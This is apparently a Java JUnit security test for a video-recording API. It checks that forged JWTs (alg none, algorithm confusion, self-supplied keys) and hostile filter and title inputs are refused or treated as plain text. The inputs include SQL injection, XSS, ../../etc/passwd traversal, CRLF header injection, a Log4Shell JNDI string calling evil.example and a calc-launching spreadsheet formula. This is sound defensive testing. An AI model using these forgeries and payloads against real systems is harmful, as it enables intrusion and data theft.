package io.videoconf.recorder.api;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import io.videoconf.recorder.api.ApiFixture.Response;
import io.videoconf.recorder.json.Json;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.time.Instant;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens, filters and titles as an attacker writes them. */
class HostileInputTest {
  private static final ApiFixture api = ApiFixture.shared();
  private static UUID recording;

  @BeforeAll
  static void record() {
    recording = api.finished("victim", "Hers");
  }

  @Test
  void noForgedTokenIsBelieved() throws Exception {
    Map<String, String> forged = new LinkedHashMap<>();
    String good = signed(claims().build(), ApiFixture.JWT_SECRET);
    String[] parts = good.split("\\.");
    RSAKey rsa = new RSAKeyGenerator(2048).keyID("mine").generate();
    forged.put("alg none", new PlainJWT(claims().build()).serialize());
    forged.put("alg none with the good signature", header("{\"alg\":\"none\"}", parts));
    forged.put("alg NONE", header("{\"alg\":\"NONE\"}", parts));
    forged.put("alg missing", header("{}", parts));
    forged.put("alg RS256 in front of an HMAC", header("{\"alg\":\"RS256\"}", parts));
    forged.put(
        "RS256 with a key that it brings along",
        signed(
            new JWSHeader.Builder(JWSAlgorithm.RS256).jwk(rsa.toPublicJWK()).build(),
            new RSASSASigner(rsa)));
    forged.put(
        "HS512",
        signed(
            new JWSHeader(JWSAlgorithm.HS512),
            mac(ApiFixture.JWT_SECRET + "012345678901234567890123")));
    forged.put(
        "another secret", signed(claims().build(), "another-secret-0123456789abcdef-0123456789"));
    forged.put("expired", own(claims().expirationTime(Date.from(Instant.now().minusSeconds(60)))));
    forged.put("never expires", own(claims().expirationTime(null)));
    forged.put("not yet", own(claims().notBeforeTime(Date.from(Instant.now().plusSeconds(600)))));
    forged.put("another audience", own(claims().audience("playback")));
    forged.put("another issuer", own(claims().issuer("https://evil.example")));
    forged.put("no issuer", own(claims().issuer(null)));
    forged.put("no subject", own(claims().subject(null)));
    forged.put("a subject of blanks", own(claims().subject("  ")));
    forged.put("no claims but text", text("victim"));
    forged.put("a claim of another type", own(claims().claim("exp", "tomorrow")));
    forged.put("without its signature", parts[0] + "." + parts[1] + ".");
    forged.put("without its end", good.substring(0, good.length() - 4));
    forged.put("with more behind it", good + "." + parts[2]);
    forged.put("as long as we take", good + "A".repeat(8192 - good.length()));
    forged.put("oversize", "A".repeat(9000));

    assertThat(api.get(ApiFixture.path(recording), good).status())
        .as("the good one")
        .isEqualTo(200);
    forged.forEach((how, token) -> {
      Response refused = api.get(ApiFixture.path(recording), token);
      assertThat(refused.status()).as(how).isEqualTo(401);
      assertThat(refused.errorCode()).as(how).isEqualTo("INVALID_TOKEN");
    });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' or '1'='1",
        "standup' or 1=1 --",
        "standup'; drop table recording; --",
        "%",
        "_tandup",
        "stand\\u0075p",
        "$$standup$$",
        "{\"$ne\":null}",
        "\" or \"\"=\"",
        ":user",
        "?1"
      })
  void aFilterIsAValueAndNothingElse(String value) {
    String query = "?meeting_id=" + URLEncoder.encode(value, UTF_8);
    Response response = api.get("/api/v1/recordings" + query, api.token("victim"));

    assertThat(response.status()).isEqualTo(200);
    assertThat(response.json().at("/recordings")).isEmpty();
    assertThat(api.get("/api/v1/recordings", api.token("victim")).json().at("/recordings"))
        .isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "status=completed'--",
        "from=2024-01-01T00:00:00Z'%20or%201=1",
        "limit=1;drop%20table%20recording",
        "limit=-1",
        "offset=99999999999999999999",
        "cursor='%20or%201=1",
        "meeting_id=a%00b",
        "meeting_id=a%0d%0aSet-Cookie:x"
      })
  void aFilterThatIsNoneIsNamedAndNotRun(String query) {
    Response response = api.get("/api/v1/recordings?" + query, api.token("victim"));

    assertThat(response.status()).isEqualTo(400);
    assertThat(response.errorCode()).isEqualTo("VALIDATION_FAILED");
    assertThat(response.errorField()).isEqualTo(query.substring(0, query.indexOf('=')));
    assertThat(response.header("Set-Cookie")).isNull();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; drop table recording; --",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "../../etc/passwd",
        "%0d%0aX-Injected: yes",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "=cmd|' /C calc'!A0"
      })
  void aTitleIsTextThatComesBackAsItWentInAndNamesAFileSafely(String title) {
    UUID own = api.finished("titled", "Before");
    Response renamed =
        api.send(
            api.request(ApiFixture.path(own), api.token("titled"))
                .header("Content-Type", "application/json")
                .method("PATCH", BodyPublishers.ofString(Json.write(Map.of("title", title)))));

    assertThat(renamed.status()).isEqualTo(200);
    assertThat(renamed.json().at("/title").asString()).isEqualTo(title);
    assertThat(renamed.header("Content-Type")).startsWith("application/json");
    Response download = api.get(ApiFixture.path(own) + "/download", api.token("titled"));
    assertThat(download.status()).isEqualTo(302);
    assertThat(download.header("X-Injected")).isNull();
    assertThat(download.location()).doesNotContain("etc/passwd", "<", ">");
  }

  @Test
  void aBodyThatIsTooLargeOrTooDeepIsRefused() {
    String path = ApiFixture.path(recording) + "/shares";
    String deep = "[".repeat(100_000);
    String large = "{\"x\":\"" + "x".repeat(1 << 20) + "\"}";

    assertThat(post(path, deep).status()).isEqualTo(400);
    assertThat(post(path, large).status()).isEqualTo(413);
    assertThat(post(path, large).errorCode()).isEqualTo("PAYLOAD_TOO_LARGE");
  }

  private static Response post(String path, String body) {
    return api.send(
        api.request(path, api.token("victim"))
            .header("Content-Type", "application/json")
            .POST(BodyPublishers.ofString(body)));
  }

  private static JWTClaimsSet.Builder claims() {
    return new JWTClaimsSet.Builder()
        .subject("victim")
        .issuer("videoconf-recorder")
        .audience("recorder")
        .claim("scope", "recordings:admin")
        .expirationTime(Date.from(Instant.now().plusSeconds(300)));
  }

  private static String own(JWTClaimsSet.Builder claims) throws Exception {
    return signed(claims.build(), ApiFixture.JWT_SECRET);
  }

  private static String signed(JWTClaimsSet claims, String secret) throws Exception {
    SignedJWT jwt = new SignedJWT(new JWSHeader(JWSAlgorithm.HS256), claims);
    jwt.sign(mac(secret));
    return jwt.serialize();
  }

  private static String signed(JWSHeader header, JWSSigner signer) throws Exception {
    SignedJWT jwt = new SignedJWT(header, claims().build());
    jwt.sign(signer);
    return jwt.serialize();
  }

  private static String text(String payload) throws Exception {
    JWSObject jws = new JWSObject(new JWSHeader(JWSAlgorithm.HS256), new Payload(payload));
    jws.sign(mac(ApiFixture.JWT_SECRET));
    return jws.serialize();
  }

  private static MACSigner mac(String secret) throws Exception {
    return new MACSigner(secret);
  }

  private static String header(String json, String[] parts) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(UTF_8))
        + "."
        + parts[1]
        + "."
        + parts[2];
  }
}
